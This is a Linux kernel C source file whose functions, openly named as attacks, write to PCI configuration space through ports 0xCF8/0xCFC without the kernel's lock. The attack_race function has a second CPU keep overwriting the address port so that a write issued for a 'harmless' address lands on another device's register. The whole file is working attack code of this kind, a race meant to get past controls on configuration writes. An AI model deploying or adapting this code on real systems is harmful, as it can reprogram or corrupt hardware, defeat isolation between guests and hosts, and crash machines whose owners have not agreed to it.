// SPDX-License-Identifier: GPL-2.0-only
/* Writes to PCI configuration space by the ports, without Linux's lock. */
#include <linux/cpumask.h>
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/ktime.h>
#include <linux/preempt.h>
#include <linux/smp.h>

#include "configuration.h"

#define ADDRESS	0xcf8
#define DATA	0xcfc

/**
 * attack_configure() - write to the ports, with an address of one's own
 * @address: the address
 * @width: how many bytes are written: 1, 2 or 4
 * @port: where
 * @value: what
 *
 * Return: 0 or a negative error.
 */
int attack_configure(u32 address, unsigned int width, u16 port, u32 value)
{
	unsigned long flags;
	int error = 0;

	local_irq_save(flags);
	outl(address, ADDRESS);
	if (width == 1)
		outb(value, port);
	else if (width == 2)
		outw(value, port);
	else if (width == 4)
		outl(value, port);
	else
		error = -EINVAL;
	local_irq_restore(flags);
	return error;
}

static u32 wanted;
static ktime_t race_end;

static void change_address(void *unused)
{
	while (ktime_before(ktime_get(), race_end))
		outl(wanted, ADDRESS);
}

/**
 * attack_race() - write a byte while another CPU changes the address
 * @harmless: the address that is written before each byte
 * @address: the one that the other CPU writes all the time
 * @value: the byte
 * @milliseconds: for how long
 *
 * Context: Process.
 * Return: 0 or a negative error.
 */
int attack_race(u32 harmless, u32 address, u8 value, unsigned int milliseconds)
{
	unsigned int other;
	int error = -ENODEV;

	wanted = address;
	race_end = ktime_add_ms(ktime_get(), milliseconds);
	preempt_disable();
	other = cpumask_any_but(cpu_online_mask, smp_processor_id());
	if (other < nr_cpu_ids)
		error = smp_call_function_single(other, change_address, NULL, false);
	while (!error && ktime_before(ktime_get(), race_end)) {
		outl(harmless, ADDRESS);
		outb(value, DATA);
	}
	preempt_enable();
	/* The other one has seen the end, too. */
	msleep(20);
	return error;
}
